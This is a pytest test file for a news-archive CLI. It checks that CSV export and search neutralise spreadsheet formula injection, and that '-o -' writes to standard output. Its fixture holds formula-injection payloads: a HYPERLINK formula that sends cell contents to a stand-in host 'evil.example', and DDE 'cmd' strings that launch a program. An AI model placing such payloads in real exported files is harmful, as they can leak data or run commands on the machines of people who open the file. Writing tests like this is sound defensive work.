"""Hostile text met by `export` and `search` CSV: no cell runs as a spreadsheet formula;
and `export -o -` writes to standard output (issue 24, items 5 and 38).

The database holds the golden records (tests/fixtures); one article's fields are then
rewritten with formula payloads, as a hostile page's title, source or byline would give.
"""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest
from click.testing import CliRunner
from test_search import build_fixture_db

from newsclean.cli import main

PAYLOADS = {  # field -> stored text, as a cleaned page could carry it
    "title": '=HYPERLINK("http://evil.example/?"&A1,"点击")',
    "source": "@SUM(1+1)*cmd|' /C calc'!A0",
    "editor": "+1+1",
    "section": "-2+3",
    "byline": "\t=1+1",
    "summary": "\r=1+1",
}
AUTHORS = ["=1+2", "王文凯"]
BODY = ["=cmd|' /C calc'!A0", "正文第二段。"]


@pytest.fixture(scope="module")
def hostile_db(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, int]:
    """(database path, id of the article carrying the payloads)."""
    path = tmp_path_factory.mktemp("export") / "news.db"
    db, _ = build_fixture_db(path)
    article_id = db.execute("select min(id) from articles").fetchone()[0]
    sets = ", ".join(f"{field} = ?" for field in PAYLOADS)
    with db.conn:
        db.execute(
            f"update articles set {sets}, authors = ?, body = ? where id = ?",
            [*PAYLOADS.values(), json.dumps(AUTHORS, ensure_ascii=False), "\n".join(BODY), article_id],
        )
    db.conn.close()
    # plain SQL leaves the search index stale; search reads it as it is (reindex brings it up to date)
    assert CliRunner().invoke(main, ["reindex", "--db", str(path)]).exit_code == 0
    return path, article_id


def exported_row(db: tuple[Path, int], *options: str) -> dict[str, str]:
    """The CSV row of the hostile article from `export --format csv`."""
    result = CliRunner().invoke(main, ["export", "--db", str(db[0]), "--format", "csv", *options])
    assert result.exit_code == 0, result.output
    (row,) = [r for r in csv.DictReader(io.StringIO(result.output)) if r["id"] == str(db[1])]
    return row


def test_export_csv_prefixes_every_formula_cell(hostile_db):
    row = exported_row(hostile_db)
    for field, text in PAYLOADS.items():
        assert row[field] == "'" + text, field
    assert row["authors"] == "'" + "; ".join(AUTHORS)
    assert row["body"] == "'" + "\n".join(BODY)
    assert row["url"].startswith("http")  # plain cells untouched


def test_export_raw_csv_keeps_the_exact_text(hostile_db):
    row = exported_row(hostile_db, "--raw-csv")
    assert {field: row[field] for field in PAYLOADS} == PAYLOADS
    assert row["body"] == "\n".join(BODY)


def test_export_help_documents_the_escape_and_the_option():
    text = CliRunner().invoke(main, ["export", "--help"]).output
    assert "--raw-csv" in text and "formula" in text


def test_search_csv_prefixes_formula_cells_too(hostile_db):
    result = CliRunner().invoke(main, ["search", "正文第二段", "--db", str(hostile_db[0]), "--format", "csv"])
    assert result.exit_code == 0, result.output
    rows = [r for r in csv.DictReader(io.StringIO(result.stdout)) if r["id"] == str(hostile_db[1])]
    assert rows and rows[0]["title"] == "'" + PAYLOADS["title"]


@pytest.mark.parametrize("fmt", ["jsonl", "csv"])
def test_export_to_dash_writes_standard_output_not_a_file(hostile_db, tmp_path, monkeypatch, fmt):
    monkeypatch.chdir(tmp_path)
    to_dash = CliRunner().invoke(main, ["export", "--db", str(hostile_db[0]), "--format", fmt, "-o", "-"])
    plain = CliRunner().invoke(main, ["export", "--db", str(hostile_db[0]), "--format", fmt])
    assert to_dash.exit_code == 0 and to_dash.output == plain.output and plain.output.count("\n") > 5
    assert not (tmp_path / "-").exists()
